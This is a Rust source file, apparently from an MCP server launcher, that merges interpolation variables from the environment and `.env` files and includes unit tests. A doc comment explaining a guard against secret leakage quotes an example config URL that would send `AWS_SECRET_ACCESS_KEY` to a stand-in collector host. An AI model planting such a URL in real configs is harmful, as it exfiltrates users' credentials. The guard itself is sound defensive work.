//! The variables `${…}` can see, layered from their sources.
//!
//! Precedence, highest first: the process environment, the env files [`super::load_each`] chose
//! (`--env-file`s, a later flag winning, over `./.env` when the config was discovered), then
//! `~/.claude/.env`. A missing env file is an error (the caller passes `./.env` only when it
//! exists); `~/.claude/.env` is optional. Variables that come only from `.env` files form the *overlay* every stdio server
//! receives on top of the environment it inherits (it would not see them otherwise).

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use super::dotenv;
use super::error::ConfigError;

/// Every variable visible to interpolation, with the `.env` layer kept apart.
#[derive(Debug, Clone)]
pub(crate) struct Variables<'p> {
    /// The process environment; wins over everything.
    process: &'p BTreeMap<String, String>,
    /// Variables from `.env` files, already merged by precedence.
    dotenv: BTreeMap<String, String>,
    /// The config came with the working directory (discovery): a variable only the process
    /// environment sets reaches a remote server's URL only when the entry declares it.
    guards_remote_urls: bool,
}

impl<'p> Variables<'p> {
    /// Reads the `.env` layers and stacks them under the process environment.
    ///
    /// `env_files` (paths as given, lowest precedence first) each must exist; `home` is where
    /// `~/.claude/.env` lives.
    pub(crate) fn load(
        process: &'p BTreeMap<String, String>,
        env_files: &[PathBuf],
        home: Option<&Path>,
    ) -> Result<Self, ConfigError> {
        let mut dotenv = BTreeMap::new();
        // Lowest precedence first: each layer overwrites the ones before it.
        if let Some(home) = home {
            read_into(&mut dotenv, &home.join(".claude").join(".env"), false)?;
        }
        for file in env_files {
            read_into(&mut dotenv, file, true)?;
        }
        Ok(Self {
            process,
            dotenv,
            guards_remote_urls: false,
        })
    }

    /// The same variables for a config that came with the working directory: see
    /// [`Variables::is_guarded`].
    pub(crate) fn guarding_remote_urls(self) -> Self {
        Self {
            guards_remote_urls: true,
            ..self
        }
    }

    /// True when `name` may not reach a remote URL undeclared: the config came with the
    /// directory and only the process environment sets `name` (no `.env`, `--env-file` or
    /// `~/.claude/.env` vouches for it). A checkout must not be able to write
    /// `"url": "https://collector/?k=${AWS_SECRET_ACCESS_KEY}"`.
    pub(crate) fn is_guarded(&self, name: &str) -> bool {
        self.guards_remote_urls
            && self.process.contains_key(name)
            && !self.dotenv.contains_key(name)
    }

    /// Variables from explicit layers, for tests and fuzzing that need no files.
    pub(crate) fn from_layers(
        process: &'p BTreeMap<String, String>,
        dotenv: BTreeMap<String, String>,
    ) -> Self {
        Self {
            process,
            dotenv,
            guards_remote_urls: false,
        }
    }

    /// The value of `name`, or `None` when no source sets it.
    pub(crate) fn get(&self, name: &str) -> Option<&str> {
        self.process
            .get(name)
            .or_else(|| self.dotenv.get(name))
            .map(String::as_str)
    }

    /// Where `name`'s value would come from (for `mcp-launch trust`'s preview: names, never
    /// values).
    pub(crate) fn source(&self, name: &str) -> super::VarSource {
        if self.process.contains_key(name) {
            super::VarSource::Environment
        } else if self.dotenv.contains_key(name) {
            super::VarSource::EnvFile
        } else {
            super::VarSource::Unset
        }
    }

    /// The names the `.env` files set (for the preview).
    pub(crate) fn env_file_names(&self) -> impl Iterator<Item = &str> {
        self.dotenv.keys().map(String::as_str)
    }

    /// Variables set only by `.env` files (not by the process environment), sorted by name.
    pub(crate) fn overlay(&self) -> impl Iterator<Item = (&str, &str)> {
        self.dotenv
            .iter()
            .filter(|(key, _)| !self.process.contains_key(*key))
            .map(|(key, value)| (key.as_str(), value.as_str()))
    }
}

/// Parses one `.env` file into `vars`, overwriting existing keys.
fn read_into(
    vars: &mut BTreeMap<String, String>,
    path: &Path,
    is_required: bool,
) -> Result<(), ConfigError> {
    let text = match std::fs::read_to_string(path) {
        Ok(text) => text,
        Err(err) if err.kind() == std::io::ErrorKind::NotFound => {
            if is_required {
                return Err(ConfigError::EnvFileMissing {
                    path: path.to_path_buf(),
                });
            }
            return Ok(());
        }
        Err(err) => {
            return Err(ConfigError::EnvFileUnreadable {
                path: path.to_path_buf(),
                reason: err.to_string(),
            })
        }
    };
    let pairs = dotenv::parse(&text).map_err(|bad| ConfigError::InvalidEnvFile {
        path: path.to_path_buf(),
        line: bad.line,
        reason: bad.reason,
    })?;
    tracing::debug!(path = %path.display(), count = pairs.len(), "loaded env file");
    vars.extend(pairs);
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::fs;

    struct Dirs {
        _root: tempfile::TempDir,
        cwd: PathBuf,
        home: PathBuf,
    }

    fn dirs() -> Dirs {
        let root = tempfile::tempdir().unwrap();
        let cwd = root.path().join("project");
        let home = root.path().join("home");
        fs::create_dir_all(&cwd).unwrap();
        fs::create_dir_all(home.join(".claude")).unwrap();
        Dirs {
            _root: root,
            cwd,
            home,
        }
    }

    #[test]
    fn precedence_process_then_later_env_files_then_home() {
        let d = dirs();
        fs::write(
            d.home.join(".claude/.env"),
            "A=home\nB=home\nC=home\nD=home\n",
        )
        .unwrap();
        fs::write(d.cwd.join(".env"), "A=dot\nB=dot\nC=dot\n").unwrap();
        fs::write(d.cwd.join("one.env"), "A=one\nB=one\n").unwrap();
        fs::write(d.cwd.join("two.env"), "A=two\n").unwrap();
        let process: BTreeMap<String, String> = [("A".to_string(), "process".to_string())].into();
        // As `load_each` passes them: ./.env (a discovered config), then the --env-files.
        let files = [".env", "one.env", "two.env"].map(|f| d.cwd.join(f));

        let vars = Variables::load(&process, &files, Some(&d.home)).unwrap();
        assert_eq!(vars.get("A"), Some("process"));

        let no_process = BTreeMap::new();
        let vars = Variables::load(&no_process, &files, Some(&d.home)).unwrap();
        assert_eq!(vars.get("A"), Some("two"), "the later --env-file wins");
        assert_eq!(vars.get("B"), Some("one"), "--env-file beats ./.env");
        assert_eq!(vars.get("C"), Some("dot"), "./.env beats ~/.claude/.env");
        assert_eq!(vars.get("D"), Some("home"));
        assert_eq!(vars.get("E"), None);
    }

    #[test]
    fn overlay_holds_only_dotenv_variables_the_process_lacks() {
        let d = dirs();
        fs::write(d.cwd.join(".env"), "SHARED=file\nONLY_FILE=1\n").unwrap();
        let process: BTreeMap<String, String> = [
            ("SHARED".to_string(), "proc".to_string()),
            ("PATH".to_string(), "/bin".to_string()),
        ]
        .into();
        let vars = Variables::load(&process, &[d.cwd.join(".env")], None).unwrap();
        let overlay: Vec<_> = vars.overlay().collect();
        assert_eq!(overlay, vec![("ONLY_FILE", "1")]);
    }

    #[test]
    fn the_home_file_is_optional_but_env_files_are_not() {
        let d = dirs();
        let process = BTreeMap::new();
        assert!(Variables::load(&process, &[], Some(&d.home)).is_ok());

        let missing = d.cwd.join("nope.env");
        let err = Variables::load(&process, std::slice::from_ref(&missing), None).unwrap_err();
        assert_eq!(err, ConfigError::EnvFileMissing { path: missing });
        assert_eq!(err.kind(), "env_file_not_found");
    }

    #[test]
    fn a_bad_line_names_file_and_line() {
        let d = dirs();
        fs::write(d.cwd.join(".env"), "OK=1\n# fine\noops\n").unwrap();
        let process = BTreeMap::new();
        let err = Variables::load(&process, &[d.cwd.join(".env")], None).unwrap_err();
        match &err {
            ConfigError::InvalidEnvFile { path, line, .. } => {
                assert_eq!(path, &d.cwd.join(".env"));
                assert_eq!(*line, 3);
            }
            other => panic!("unexpected {other:?}"),
        }
        assert!(err
            .to_string()
            .starts_with(&format!("{}:3: ", d.cwd.join(".env").display())));
    }
}
